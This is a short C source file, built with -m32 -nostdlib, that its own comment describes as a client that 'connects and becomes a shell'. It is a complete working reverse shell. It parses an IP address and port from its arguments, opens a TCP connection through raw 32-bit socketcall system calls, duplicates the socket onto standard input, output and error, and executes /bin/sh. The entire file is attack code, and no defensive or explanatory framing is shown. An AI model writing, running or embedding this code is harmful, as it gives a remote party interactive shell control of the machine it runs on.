// SPDX-License-Identifier: Apache-2.0
// client32 ADDRESS PORT: connects and becomes a shell, by the 32-bit system calls (socketcall).
// Built with -m32 -nostdlib, so that no 32-bit library is needed.
enum { kExit = 1, kExecve = 11, kDup2 = 63, kSocketcall = 102, kSocket = 1, kConnect = 3 };

static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory");
    return result;
}

static unsigned next_number(const char** text) {
    unsigned value = 0;
    while (**text >= '0' && **text <= '9')
        value = value * 10 + (unsigned)(*(*text)++ - '0');
    if (**text == '.')
        ++*text;
    return value;
}

__attribute__((used)) static void client(long* stack) {
    const char* address = (const char*)stack[2];
    const char* port_text = (const char*)stack[3];
    unsigned char peer[16] = {2};
    const unsigned port = next_number(&port_text);
    peer[2] = (unsigned char)(port >> 8);
    peer[3] = (unsigned char)port;
    for (int i = 4; i < 8; ++i)
        peer[i] = (unsigned char)next_number(&address);
    long socket_arguments[3] = {2, 1, 0};
    const long fd = call(kSocketcall, kSocket, (long)socket_arguments, 0);
    long connect_arguments[3] = {fd, (long)peer, sizeof peer};
    if (call(kSocketcall, kConnect, (long)connect_arguments, 0) == 0) {
        for (int i = 0; i < 3; ++i)
            call(kDup2, fd, i, 0);
        const char* arguments[2] = {"/bin/sh", 0};
        call(kExecve, (long)arguments[0], (long)arguments, 0);
    }
    call(kExit, 1, 0, 0);
}

__asm__(".globl _start\n_start:\n  mov %esp, %eax\n  push %eax\n  call client\n");
